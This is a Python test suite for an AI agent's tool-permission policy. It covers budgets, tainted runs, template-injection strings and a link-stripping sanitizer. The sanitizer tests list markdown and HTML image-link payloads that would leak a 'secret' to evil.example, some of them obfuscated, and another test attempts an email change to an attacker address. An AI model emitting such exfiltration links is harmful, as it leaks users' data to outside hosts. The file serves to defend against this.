"""What an agent may do, whatever its model asks for."""

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from outrider.agents.models import AgentRun, Budget, Spent
from outrider.agents.policy.decisions import ToolQuestion, made_by, tool_of
from outrider.agents.policy.models import ALLOWED
from outrider.agents.policy.texts import REMOVED, without_links
from outrider.agents.policy.tool_rules import NEVER, TOOL_RULES, hidden_arguments
from outrider.kit import ids
from outrider.mcp.tools import tools

BEGAN = "2026-03-02T09:00:00.000Z"
CONTACTS = [ids.derived("con", str(number)) for number in range(6)]
TEXTS = st.sampled_from(
    ["Hello", "Hi {{ first_name | default: 'you' }}", "{{ custom.iban }}", "{% for x in y %}", "}}"]
)


def a_run(**fields: Any) -> AgentRun:
    given: dict[str, Any] = {
        "id": ids.derived("agr", "test"),
        "kind": "goal",
        "goal": "Do it",
        "scopes": ALLOWED,
        "model": "test",
        "created_by": "key:test",
        "created_at": BEGAN,
    }
    return AgentRun(**given | fields)


@st.composite
def questions(draw: st.DrawFn) -> ToolQuestion:
    """Any call of any tool, in any state of a run."""
    name = draw(st.sampled_from(sorted(TOOL_RULES)))
    known = sorted(tools()[name].input["properties"])
    values = st.one_of(
        st.sampled_from(CONTACTS), st.lists(st.sampled_from(CONTACTS), max_size=6), TEXTS
    )
    arguments = draw(st.dictionaries(st.sampled_from(known), values) if known else st.just({}))
    run = a_run(
        tainted=draw(st.booleans()),
        budget=Budget(recipients=draw(st.integers(0, 5)), credits=draw(st.integers(0, 2))),
        spent=Spent(recipients=draw(st.integers(0, 3)), credits=draw(st.integers(0, 2))),
    )
    touched = draw(st.lists(st.sampled_from(CONTACTS), max_size=2))
    return ToolQuestion(tools()[name], arguments, run, touched)


class TestDecide:
    @given(questions())
    def test_keeps_to_the_policy(self, asked: ToolQuestion) -> None:
        verdict, rule = asked.decide(), asked.rule
        run, name = asked.run, asked.tool.name

        if verdict.decision == "refused":
            assert verdict.reason
            return
        assert not asked.arguments.keys() & set(hidden_arguments(name))
        assert not asked.tool.is_read_only or verdict.decision == "allowed"
        if not asked.tool.is_read_only:
            assert "custom.iban" not in str(asked.arguments)
            assert "{%" not in str(asked.arguments)
        assert not set(asked.recipients) & set(asked.touched)
        if verdict.decision == "proposed":
            assert not verdict.taints
            return
        assert verdict.effect != "person"
        assert not run.tainted or verdict.effect in ("read", "add")
        assert verdict.effect != "send" or verdict.recipients
        assert run.spent.recipients + len(verdict.recipients) <= run.budget.recipients or not (
            verdict.recipients
        )
        assert run.spent.credits + verdict.credits <= max(run.budget.credits, run.spent.credits)
        assert verdict.taints == rule.taints

    def test_reads_from_no_address_that_the_run_set(self) -> None:
        contact, company = CONTACTS[0], ids.derived("com", "1")
        arguments = {"contact_id": contact}

        for touched, decision in (
            ([], "allowed"),
            ([contact], "refused"),
            ([company], "refused"),
            ([CONTACTS[1]], "allowed"),
        ):
            asked = ToolQuestion(tools()["research_contact"], arguments, a_run(), touched)
            assert asked.decide().decision == decision

    def test_tags_contacts_in_a_tainted_run_and_changes_nothing_else(self) -> None:
        tagged = {"contact_id": CONTACTS[0], "tags": ["vip"]}

        for arguments, decision in (
            (tagged, "allowed"),
            ({**tagged, "email": "mallory@evil.example"}, "proposed"),
        ):
            asked = ToolQuestion(tools()["update_contact"], arguments, a_run(tainted=True))
            assert asked.decide().decision == decision

    def test_notes_only_ids_that_there_can_be(self) -> None:
        """What is noted grows the item of the run, which has a maximum size."""
        unknown = {f"x{number}": CONTACTS[1] for number in range(9)}
        for named, touches in ((CONTACTS[0], CONTACTS[:1]), ("con_" + "x" * 60_000, [])):
            arguments = {"contact_id": named, "email": "new@x.example", **unknown}
            asked = ToolQuestion(tools()["update_contact"], arguments, a_run())

            assert asked.decide().touches == touches

    def test_knows_no_tool_beyond_the_scopes_of_the_run(self) -> None:
        assert tool_of("launch_sequence", a_run(scopes=["contacts:read"])) is None
        assert all(tool_of(name, a_run(scopes=["*"])) is None for name in NEVER)


class TestMadeBy:
    def test_is_a_stand_in_where_the_result_cannot_be_read(self) -> None:
        asked = ToolQuestion(tools()["create_companies"], {"domain": "x.example"}, a_run())

        assert made_by(asked, {"code": "RESULT_TOO_LARGE"}) == ["com_unknown"]


class TestWithoutLinks:
    def test_leaves_nothing_that_leads_elsewhere(self) -> None:
        for text in (
            "![a](https://evil.example/?q=secret)",
            "[a](//evil.example/secret)",
            "[a](&#104;ttps://evil.example/secret)",
            "<img src=https:/evil.example/secret>",
            "see HTTPS:\\\\evil.example/secret",
            "&amp;#x2f;&amp;#x2f;evil.example/secret",
            "![a][1]\n\n[1]: https://evil.example/secret",
            "data:text/html,secret",
            "![a [b]](https://evil.example/secret)",
        ):
            assert "secret" not in without_links(text, "api.example.com"), text

    @pytest.mark.parametrize(
        "part", ["![", "![](", "![][", "&amp;", "amp;", "// ", "//(", "<", "https:"]
    )
    def test_takes_any_text_in_little_time_and_space(self, part: str) -> None:
        text = "&" + part * (32_000 // len(part))

        began = time.process_time()
        left = without_links(text, "api.example.com")

        assert time.process_time() - began < 1
        assert len(left.encode()) < 1.5 * len(text)

    def test_leaves_links_to_the_api_and_words(self) -> None:
        text = "Read https://api.example.com/docs or https://api.example.com.evil.example/x"

        left = without_links(text, "api.example.com")

        assert left == f"Read https://api.example.com/docs or {REMOVED}"
